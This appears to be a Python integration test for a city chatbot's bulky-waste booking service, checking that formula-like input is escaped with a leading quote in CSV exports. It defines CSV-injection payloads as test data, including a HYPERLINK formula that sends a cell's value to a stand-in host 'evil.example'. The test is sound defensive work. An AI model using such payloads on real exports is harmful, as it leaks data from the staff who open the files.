"""A place, name or address a resident types as a spreadsheet formula reaches the crews'
CSV as text: the admin download and `citybot bookings export` both write it with a
leading quote."""

from __future__ import annotations

import csv
import io
from datetime import date
from urllib.parse import urlencode

from click.testing import CliRunner

from bot.cli import main as cli_main
from handlers.large_waste import domain as lw
from tests.integration.test_admin_auth import login, staff  # noqa: F401
from tests.integration.test_large_waste import at, data_starting, give_contact, living_in, tap_label

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_NAME, EVIL_ADDRESS = "@SUM(1+1)*cmd", "+北区梅ヶ丘4丁目13-10"


def book_with_typed_place(taro, place: str):
    [ask] = taro.says("粗大ごみ")
    [ask] = taro.taps("action=large_waste.item&step=item&" + urlencode({"name": "自転車", "category": "large_waste"}))
    [ask] = tap_label(taro, ask, "1")
    [ask] = tap_label(taro, ask, "これで全部")
    [ask] = taro.taps(data_starting(ask, "action=large_waste.date"))
    [ask] = taro.says(place)
    ask = give_contact(taro, ask, EVIL_NAME, EVIL_ADDRESS)
    assert f"場所：{place}" in ask["text"]
    booked, *_ = tap_label(taro, ask, "確定")
    assert "LW-2026-000001" in booked["text"]


def test_a_formula_typed_as_the_place_is_text_in_both_csvs(chat, services, clock, client, staff, config,
                                                            monkeypatch):
    at(clock, 2026, 12, 3, 18, 0)
    taro = living_in(chat, services, "kita-1", "太郎")
    book_with_typed_place(taro, EVIL)
    with services.sessions() as s:
        [booking] = lw.bookings_on(s, date(2026, 12, 8))
    assert booking.place == EVIL  # stored as typed; only the CSV output is neutralised

    staff("sato", "desk")
    login(client, "sato")
    download = client.get("/admin/bookings.csv?date=2026-12-08")
    assert download.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(download.get_data().decode("utf-8-sig"))))
    assert (row["place"], row["name"], row["address"]) == ("'" + EVIL, "'" + EVIL_NAME, "'" + EVIL_ADDRESS)
    assert row["number"] == "LW-2026-000001" and row["total_fee"] == "400"

    monkeypatch.setenv("DATABASE_URL", config.database_url)
    result = CliRunner().invoke(cli_main, ["bookings", "export", "--date", "2026-12-08", "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert (row["place"], row["name"], row["address"]) == ("'" + EVIL, "'" + EVIL_NAME, "'" + EVIL_ADDRESS)
    assert ',"\'=HYPERLINK(' in result.output
